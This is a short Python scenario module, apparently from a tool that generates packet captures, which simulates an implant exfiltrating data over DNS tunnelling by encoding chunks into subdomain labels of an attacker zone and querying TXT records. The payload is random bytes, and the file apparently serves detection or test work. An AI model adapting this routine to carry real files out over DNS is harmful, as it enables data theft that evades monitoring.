"""A device in the cell carries a file out in names that it asks the resolver for; the answers carry commands back."""

from __future__ import annotations

import base64

from pcaps.scenarios.rig.nameserver import ATTACKER, FOREIGN, Zone, echo_text, park_servers, serve_zone
from pcaps.scenarios.rig.questioner import ask, make_scenario
from pcaps.scenarios.rig.stage import Stage


async def attack(stage: Stage) -> None:
    """Ask 240 times for TXT records of names that hold 110 bytes each."""
    await stage.until(30)
    stage.mark()
    stolen = stage.random.randbytes(240 * 110)
    for ordinal in range(240):
        piece = base64.b32encode(stolen[ordinal * 110 : ordinal * 110 + 110]).decode().rstrip("=").lower()
        labels = [piece[at : at + 60] for at in range(0, len(piece), 60)]
        await ask(".".join([f"{ordinal:x}", *labels, ATTACKER]), "TXT")
        await stage.wait(0.25)


SCENARIO = make_scenario(
    "dns_tunnel.pcap.gz",
    62,
    120,
    {"implant": attack},
    strangers=("implant", "foreign"),
    servers={**park_servers(), "foreign": serve_zone(lambda: Zone({}, fixed=echo_text), FOREIGN)},
)
